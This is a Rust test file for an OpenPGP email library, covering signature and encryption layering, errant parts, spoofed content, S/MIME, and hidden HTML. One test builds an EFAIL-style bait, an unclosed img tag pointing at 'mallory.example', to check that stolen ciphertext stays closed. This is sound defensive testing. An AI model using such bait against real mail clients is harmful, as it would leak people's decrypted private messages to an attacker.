// SPDX-License-Identifier: LGPL-2.0-or-later
//! Layers where they belong, and where they do not.

use plombe_core::{
    mail::{FindingCode, MailOpenError, OpenOptions, OpenedMail},
    verdict::VerdictKind,
};

use crate::cast::{self, ALICE, BOB, MALLORY, contains, open, open_as, pgp_mime, pgp_signed, sealed, signed};

const OUTSIDE: &str = "From: alice@example.org\r\nTo: bob@example.org\r\nSubject: s\r\nMIME-Version: 1.0\r\n";
const TEXT: &str = "Content-Type: text/plain\r\n\r\nreal words\r\n";

fn codes(opened: &OpenedMail) -> Vec<FindingCode> {
    opened.findings().iter().map(|finding| finding.code).collect()
}

fn texts(opened: &OpenedMail) -> String {
    opened.parts().iter().filter_map(|part| Some(part.text()?.0)).collect::<Vec<_>>().join("|")
}

/// A multipart around parts that already are entities.
fn around(kind: &str, parts: &[&str]) -> String {
    let parts: String = parts.iter().map(|part| format!("--out\r\n{part}\r\n")).collect();
    format!("Content-Type: multipart/{kind}; boundary=out\r\n\r\n{parts}--out--\r\n")
}

/// A mail without its own header: the entity that it is.
fn entity(mail: &[u8]) -> String {
    let text = String::from_utf8(mail.to_vec()).unwrap();
    text[text.find("Content-Type").unwrap()..].to_owned()
}

#[test]
fn a_signature_inside_encryption_counts() {
    let layered = pgp_signed("", TEXT, &ALICE);
    let opened = open(&pgp_mime(OUTSIDE, layered.as_bytes(), None));
    assert_eq!(opened.verdict().verdict, VerdictKind::Good);
    assert_eq!(texts(&opened), "real words\n");
    let kinds: Vec<_> = opened.layers().iter().map(|layer| layer.kind).collect();
    assert_eq!(kinds, ["encrypted", "signed"]);
}

#[test]
fn a_signature_around_encryption_says_nothing_about_the_words() {
    let encrypted = entity(&pgp_mime("", TEXT.as_bytes(), None));
    let opened = open(pgp_signed(OUTSIDE, &encrypted, &ALICE).as_bytes());
    assert_eq!(opened.verdict().verdict, VerdictKind::Unsigned);
    assert!(codes(&opened).contains(&FindingCode::SignatureOutsideEncryption));
}

#[test]
fn a_wrong_signature_at_any_layer_releases_nothing() {
    let layered = pgp_signed("", TEXT, &ALICE).replace("real", "fake");
    for signer in [None, Some(&*ALICE)] {
        let error =
            open_as(&BOB, &pgp_mime(OUTSIDE, layered.as_bytes(), signer), &OpenOptions::default()).err();
        assert!(matches!(error, Some(MailOpenError::BadSignature(_))), "{error:?}");
    }
}

#[test]
fn a_damaged_signature_is_not_better_than_a_wrong_one() {
    let mail = String::from_utf8(signed(format!("{OUTSIDE}\r\nwords\r\n").as_bytes())).unwrap();
    let begin = mail.find("-----BEGIN PGP SIGNATURE").unwrap();
    let truncated = format!("{}\r\n{}", &mail[..begin + 60], &mail[mail.rfind("\r\n--").unwrap()..]);
    let error = open_as(&BOB, truncated.as_bytes(), &OpenOptions::default()).err();
    assert!(matches!(error, Some(MailOpenError::BadSignature(_))), "{error:?}");
}

#[test]
fn signed_words_beside_unsigned_ones_do_not_lend_them_their_verdict() {
    let signed = pgp_signed("", TEXT, &ALICE);
    for kind in ["mixed", "related", "alternative", "digest"] {
        let fake = "Content-Type: text/html\r\n\r\n<b>You are fired</b>\r\n";
        for parts in [[fake, signed.as_str()], [signed.as_str(), fake]] {
            let opened = open(format!("{OUTSIDE}{}", around(kind, &parts)).as_bytes());
            assert!(opened.parts().len() >= 2);
            assert!(
                opened.verdicts().iter().all(|verdict| verdict.verdict == VerdictKind::Unsigned),
                "{kind}"
            );
            assert!(codes(&opened).contains(&FindingCode::ErrantLayer), "{kind}");
        }
    }
}

#[test]
fn an_errant_signature_opens_on_request_and_alone() {
    let mail = format!("{OUTSIDE}{}", around("mixed", &["\r\nunsigned", &pgp_signed("", TEXT, &ALICE)]));
    let options = OpenOptions { errant: Some("1.2".to_owned()) };
    let opened = open_as(&BOB, mail.as_bytes(), &options).unwrap();
    assert_eq!(opened.verdict().verdict, VerdictKind::Good);
    assert_eq!(texts(&opened), "real words\n");
    assert!(!contains(&opened.to_plain_mail(), "unsigned"));
    let wrong = OpenOptions { errant: Some("1.1".to_owned()) };
    assert!(matches!(open_as(&BOB, mail.as_bytes(), &wrong).err(), Some(MailOpenError::NoSuchPart)));
}

#[test]
fn errant_ciphertext_stays_closed() {
    let stolen = entity(&pgp_mime("", TEXT.as_bytes(), None));
    let bait = "Content-Type: text/html\r\n\r\n<img src=\"http://mallory.example/";
    let forwarded = format!("Content-Type: message/rfc822\r\n\r\n{stolen}");
    for part in [&stolen, &forwarded] {
        let mail = format!("{OUTSIDE}{}", around("mixed", &[bait, part]));
        let opened = open(mail.as_bytes());
        assert!(!texts(&opened).contains("real words"));
        assert!(!contains(&opened.to_plain_mail(), "real words"));
        assert!(codes(&opened).contains(&FindingCode::ErrantLayer));
    }
    // Within an encrypted mail of Mallory's too.
    let inner = around("mixed", &["\r\nplease answer", &stolen]);
    let opened = open(&pgp_mime(OUTSIDE, inner.as_bytes(), Some(&MALLORY)));
    assert!(!texts(&opened).contains("real words"));
    let errant = OpenOptions { errant: Some("1.2".to_owned()) };
    let opened = open_as(&BOB, &pgp_mime(OUTSIDE, inner.as_bytes(), Some(&MALLORY)), &errant).unwrap();
    assert_eq!(texts(&opened), "real words\n");
    // Mallory's signature around it says nothing about it.
    assert_eq!(opened.verdict().verdict, VerdictKind::Unsigned);
}

#[test]
fn inline_blocks_count_when_they_are_the_whole_text() {
    let signing = plombe_core::message::Signing {
        signers: vec![(&*ALICE).into()],
        text: true,
        armor: true,
        policy: &cast::POLICY,
        now: cast::now(),
    };
    let mut block = Vec::new();
    signing.cleartext(&mut &b"real words\n- dashed\n"[..], &mut block).unwrap();
    let block = String::from_utf8(block).unwrap().replace('\n', "\r\n").replace("\r\r", "\r");
    let opened = open(format!("{OUTSIDE}Content-Type: text/plain\r\n\r\n\r\n{block}\r\n").as_bytes());
    assert_eq!(opened.verdict().verdict, VerdictKind::Good, "{:?}", opened.verdict());
    assert!(texts(&opened).starts_with("real words\n- dashed"), "{:?}", texts(&opened));

    for mail in [
        format!("You are fired\r\n\r\n{block}"),
        format!("{block}\r\nYou are fired\r\n"),
        format!("{block}\r\n{block}"),
    ] {
        let opened = open(format!("{OUTSIDE}Content-Type: text/plain\r\n\r\n{mail}").as_bytes());
        assert_eq!(opened.verdict().verdict, VerdictKind::Unsigned);
        assert!(codes(&opened).contains(&FindingCode::ErrantLayer));
        let options = OpenOptions { errant: Some("1".to_owned()) };
        let alone =
            open_as(&BOB, format!("{OUTSIDE}Content-Type: text/plain\r\n\r\n{mail}").as_bytes(), &options)
                .unwrap();
        assert_eq!(alone.verdict().verdict, VerdictKind::Good);
        assert!(!texts(&alone).contains("fired"));
    }
}

#[test]
fn the_character_set_around_an_inline_block_does_not_change_its_words() {
    let block = String::from_utf8(pgp_mime("", b"gr\xfc\xdfe", Some(&ALICE))).unwrap();
    let block =
        &block[block.find("-----BEGIN").unwrap()..block.find("-----END PGP MESSAGE-----").unwrap() + 25];
    for charset in ["iso-8859-1", "iso-8859-5", "utf-8", "utf-16"] {
        let mail = format!("{OUTSIDE}Content-Type: text/plain; charset={charset}\r\n\r\n{block}\r\n");
        assert_eq!(texts(&open(mail.as_bytes())), "grüße", "{charset}");
    }
}

#[test]
fn inline_encrypted_text_opens() {
    let block = String::from_utf8(pgp_mime("", b"secret gr\xc3\xbc\xc3\x9fe", Some(&ALICE))).unwrap();
    let block =
        &block[block.find("-----BEGIN").unwrap()..block.find("-----END PGP MESSAGE-----").unwrap() + 25];
    let opened =
        open(format!("{OUTSIDE}Content-Type: text/plain; charset=iso-8859-1\r\n\r\n{block}\r\n").as_bytes());
    assert_eq!(opened.verdict().verdict, VerdictKind::Good);
    assert_eq!(texts(&opened), "secret grüße");
    assert!(opened.was_encrypted() && opened.subject().is_none());
}

#[test]
fn a_damaged_encrypted_mail_says_so() {
    let whole = String::from_utf8(sealed(format!("{OUTSIDE}\r\nwords\r\n").as_bytes())).unwrap();
    let empty = format!("{}\r\n", &whole[..whole.find("-----BEGIN").unwrap()]);
    let error = open_as(&BOB, empty.as_bytes(), &OpenOptions::default()).err();
    assert!(matches!(error, Some(MailOpenError::Damaged)), "{error:?}");
    let middle = whole.find("-----END").unwrap() - 40;
    let mut flipped = whole.clone().into_bytes();
    flipped[middle] = if flipped[middle] == b'A' { b'B' } else { b'A' };
    assert!(open_as(&BOB, &flipped, &OpenOptions::default()).is_err());
    assert!(open_as(&BOB, &whole.as_bytes()[..middle], &OpenOptions::default()).is_err());
}

#[test]
fn smime_is_named_and_unsigned() {
    let mail = format!(
        "{OUTSIDE}Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=s\r\n\r\n--s\r\n{TEXT}\r\n\
         --s\r\nContent-Type: application/pkcs7-signature\r\n\r\nMII=\r\n--s--\r\n"
    );
    let opened = open(mail.as_bytes());
    assert!(opened.verdicts().iter().all(|verdict| verdict.verdict == VerdictKind::Unsigned));
    assert!(codes(&opened).contains(&FindingCode::SmimeNotSupported));
}

#[test]
fn conditional_html_is_not_plainly_good() {
    let html = "Content-Type: text/html\r\n\r\n<style>@media screen {.a{display:none}}</style><p class=b>Yes</p>\
                <p style=\"display:none\">No</p>\r\n";
    let opened = open(&pgp_mime(OUTSIDE, html.as_bytes(), Some(&ALICE)));
    assert!(codes(&opened).contains(&FindingCode::ConditionalContent));
    assert!(codes(&opened).contains(&FindingCode::HiddenContent));
    assert!(opened.parts()[0].verdict().reason.contains("conditional"));
    assert!(!texts(&opened).contains("No"));
}

#[test]
fn inspecting_shows_structure_and_no_words() {
    let mail =
        sealed(format!("{}\r\nwords\r\n", OUTSIDE.replace("Subject: s", "Subject: figures")).as_bytes());
    let context_free = serde_json::to_string(&inspect(&mail)).unwrap();
    assert!(context_free.contains("\"encrypted\"") && context_free.contains("multipart/encrypted"));
    let opened = serde_json::to_string(&open(&mail).inspect()).unwrap();
    assert!(opened.contains("\"good\"") && opened.contains("\"cipher\""));
    for json in [context_free, opened] {
        assert!(!json.contains("words") && !json.contains("figures"));
    }
}

fn inspect(mail: &[u8]) -> plombe_core::mail::Inspection {
    let signers = cast::everybody();
    let context = plombe_core::message::OpenContext {
        signers: &signers,
        readers: &[],
        policy: &cast::POLICY,
        now: cast::now(),
        limits: Default::default(),
        hash_content: true,
    };
    plombe_core::mail::inspect(mail, &context).unwrap()
}
